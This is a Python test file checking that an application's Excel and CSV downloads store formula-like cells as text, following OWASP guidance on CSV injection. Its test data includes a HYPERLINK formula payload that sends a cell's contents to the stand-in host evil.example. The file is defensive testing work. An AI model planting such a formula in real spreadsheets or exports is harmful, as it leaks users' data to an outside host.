"""Downloads open as data: a list cell that looks like a formula stays text in Excel and in CSV (OWASP)."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from assistant.catalog import Catalog
from assistant.exports import build_export, write_csv, write_xlsx
from assistant.models import Answer, Citation
from assistant.overview import MatrixTable, write_matrix_xlsx
from ingest.registries import Registry
from ingest.rows import Row

ATTACK = '=HYPERLINK("http://evil.example/?leak="&C2,"点击")'
CELLS = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "市教育局"]


def test_citation_downloads_write_formula_like_cells_as_text(tmp_path: Path) -> None:
    rows = [Row(doc="t", row=n, jurisdiction="测试市", title="测试清单", category=c, text="任务", lead=[c])
            for n, c in enumerate(CELLS, start=1)]
    answer = Answer(answer="", session_id="s", intent="list", citations=[Citation.from_row(r) for r in rows])
    table = build_export(answer, ATTACK, Catalog(rows, Registry.load()), date(2026, 11, 23))
    sheet = load_workbook(write_xlsx(table, tmp_path)).active
    assert sheet["A1"].data_type == "s" and ATTACK in sheet["A1"].value  # the question, in the title row
    values = [sheet.cell(row=r, column=3) for r in range(3, 3 + len(CELLS))]  # 类别
    assert [c.value for c in values] == CELLS and all(c.data_type == "s" for c in values)
    assert sheet.cell(row=3, column=2).value == 1  # numbers stay numbers
    with write_csv(table, tmp_path).open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle))
    assert [line[2] for line in lines[1:]] == ["'" + c for c in CELLS[:5]] + ["市教育局"]
    assert [line[4] for line in lines[1:]] == ["'" + c for c in CELLS[:5]] + ["市教育局"]  # 牵头单位


def test_matrix_downloads_write_formula_like_cells_as_text(tmp_path) -> None:  # type: ignore[no-untyped-def]
    table = MatrixTable(title="部门矩阵", header=["部门", "营口市"], rows=[[ATTACK, "1 / 2"]], widths=[20, 10],
                        tips=[""])
    sheet = load_workbook(write_matrix_xlsx(table, tmp_path / "m.xlsx")).active
    assert sheet["A3"].value == ATTACK and sheet["A3"].data_type == "s"
